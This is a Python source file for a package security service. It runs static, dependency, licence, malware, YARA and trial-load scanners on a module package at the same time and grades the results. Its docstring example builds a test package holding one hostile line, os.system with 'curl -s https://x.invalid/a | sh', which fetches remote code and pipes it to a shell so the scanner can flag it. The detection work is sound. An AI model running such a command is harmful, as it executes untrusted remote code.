"""`SecurityService`: all scans of a package, at the same time."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterable
from typing import Final

from plataforma_sdk.package import ModulePackage
from plataforma_sdk.plugins import make_plugin_manager
from plataforma_sdk.security._audit import DependencyScanner
from plataforma_sdk.security._gate import Grades, grade
from plataforma_sdk.security._issue import Issue
from plataforma_sdk.security._licence import LicenceScanner
from plataforma_sdk.security._malware import MalwareScanner
from plataforma_sdk.security._policy import ScanPolicy
from plataforma_sdk.security._results import ScanResult, SecurityScanResult
from plataforma_sdk.security._risk import ScanStatus, highest
from plataforma_sdk.security._scanner import Scanner, ScanReport, ScanRequest
from plataforma_sdk.security._static import StaticScanner
from plataforma_sdk.security._trial import TrialScanner
from plataforma_sdk.security.extras import BanditScanner, DetectSecretsScanner, RuffScanner, YaraScanner

__all__ = ["SecurityService"]

_MAX_RECOMMENDATIONS: Final = 20


class SecurityService:
    """Scans packages without running them; the one trial load runs in `wasm`, in a host that grants nothing.

    A service may be used for any number of packages, one after the other or at the same time.

    Args:
        policy: what a package must meet.
        advisories: path of a local OSV file, JSON, ZIP or SQLite; None: the dependency audit does not run.
        yara_rules: path of YARA rules; None: yara does not run.
        trial: whether to load the package once.
        tools: whether to ask ruff, bandit and detect-secrets where they are installed.
        plugins: objects with the hook `plataforma_scanners`, beside those installed.

    >>> import asyncio
    >>> from plataforma_sdk import ModulePackage
    >>> package = ModulePackage.from_source("import os\\nos.system('curl -s https://x.invalid/a | sh')", id="bad")
    >>> result = asyncio.run(SecurityService(trial=False, tools=False).scan(package))
    >>> result.passed, str(result.risk_level), result.grades.security
    (False, 'critical', 'E')
    >>> print(result.recommendations[0])
    module.py:2: os.system is told 'curl -s https://x.invalid/a |': remove it: a module has no processes
    """

    def __init__(
        self,
        *,
        policy: ScanPolicy | None = None,
        advisories: str | os.PathLike[str] | None = None,
        yara_rules: str | os.PathLike[str] | None = None,
        trial: bool = True,
        tools: bool = True,
        plugins: Iterable[object] = (),
    ) -> None:
        self.policy = policy or ScanPolicy()
        own: list[Scanner] = [
            StaticScanner(),
            DependencyScanner(advisories),
            LicenceScanner(),
            MalwareScanner(),
            TrialScanner(is_on=trial),
        ]
        extras: list[Scanner] = [RuffScanner(), BanditScanner(), DetectSecretsScanner()] if tools else []
        if tools or yara_rules is not None:
            extras.append(YaraScanner(yara_rules))
        found = make_plugin_manager(plugins).hook.plataforma_scanners()
        self.scanners: tuple[Scanner, ...] = (*own, *extras, *(one for several in found for one in several or ()))
        names = [scanner.name for scanner in self.scanners]
        for name in {*names, *self.policy.required}:
            if names.count(name) != 1:
                problem = "two scanners have" if name in names else "the policy requires, and no scanner has,"
                raise ValueError(f"{problem} the name {name!r}; there are {', '.join(sorted(set(names)))}")

    async def scan(self, package: ModulePackage) -> SecurityScanResult:
        """Scan a package. What is wrong with it stands in the result; it raises nothing for that."""
        try:
            request = await asyncio.to_thread(ScanRequest.read, package, self.policy)
        except Exception as error:  # noqa: BLE001 - whatever a package can make a reader do
            results = [self._failed(scanner.name, error) for scanner in self.scanners]
            return self._result(package, results, 0)
        async with asyncio.TaskGroup() as group:
            tasks = [group.create_task(self._run(scanner, request)) for scanner in self.scanners]
        lines = sum(source.text.count("\n") + 1 for source in request.sources)
        return self._result(package, [task.result() for task in tasks], lines)

    async def _run(self, scanner: Scanner, request: ScanRequest) -> ScanResult:
        """Run one scanner; one that raises, or takes too long, has failed, and stops no other."""
        try:
            async with asyncio.timeout(self.policy.timeout_s):
                report = await scanner.scan(request)
        except Exception as error:  # noqa: BLE001 - a plugin's, or what a package makes a parser do
            return self._failed(scanner.name, error)
        return self._judged(scanner.name, report)

    def _failed(self, name: str, error: Exception) -> ScanResult:
        text = str(error) or (
            f"it took longer than {self.policy.timeout_s:g} s" if isinstance(error, TimeoutError) else ""
        )
        issue = Issue.of("scanner-failed", "module.toml", None, f"{name} raised {type(error).__name__}: {text}")
        return ScanResult(scan=name, status=ScanStatus.FAILED, issues=(issue,), reason=issue.message)

    def _judged(self, name: str, report: ScanReport) -> ScanResult:
        if report.not_run:
            return ScanResult(scan=name, status=ScanStatus.NOT_RUN, reason=report.not_run, metrics=report.metrics)
        issues = tuple(sorted(report.issues, key=lambda issue: (-issue.risk.rank, issue.path, issue.line or 0)))
        failing = [issue for issue in issues if self._counts(issue) and issue.risk.rank >= self.policy.fail_at.rank]
        return ScanResult(
            scan=name,
            status=ScanStatus.FAILED if failing else ScanStatus.PASSED,
            issues=issues,
            metrics=report.metrics,
            reason=f"{len(failing)} issues of risk {self.policy.fail_at} or higher" if failing else "",
        )

    def _counts(self, issue: Issue) -> bool:
        return not self.policy.accepts(issue)

    def _result(self, package: ModulePackage, results: list[ScanResult], lines: int) -> SecurityScanResult:
        issues = [issue for result in results for issue in result.issues if self._counts(issue)]
        grades = grade(issues, lines)
        reasons = tuple(self._reasons(results, grades))
        return SecurityScanResult(
            module=package.id,
            version=package.version,
            digest=package.digest,
            passed=not reasons,
            results=tuple(results),
            risk_level=highest(issue.risk for issue in issues),
            grades=grades,
            reasons=reasons,
            recommendations=_recommendations(issues, results),
        )

    def _reasons(self, results: list[ScanResult], grades: Grades) -> Iterable[str]:
        for result in results:
            if result.status is ScanStatus.FAILED:
                yield f"{result.scan} failed: {result.reason}"
            elif result.status is ScanStatus.NOT_RUN and result.scan in self.policy.required:
                yield f"{result.scan} is required and did not run: {result.reason}"
        for name in grades.shortfalls(self.policy):
            yield f"{name} is graded {getattr(grades, name)}, and {getattr(self.policy, name)} is demanded"


def _recommendations(issues: list[Issue], results: list[ScanResult]) -> tuple[str, ...]:
    urgent = sorted(issues, key=lambda issue: -issue.risk.rank)
    found = dict.fromkeys(f"{issue.where}: {issue.message}: {issue.remedy}" for issue in urgent)
    not_run = [
        f"{result.scan} did not run: {result.reason}" for result in results if result.status is ScanStatus.NOT_RUN
    ]
    return (*list(found)[:_MAX_RECOMMENDATIONS], *not_run)
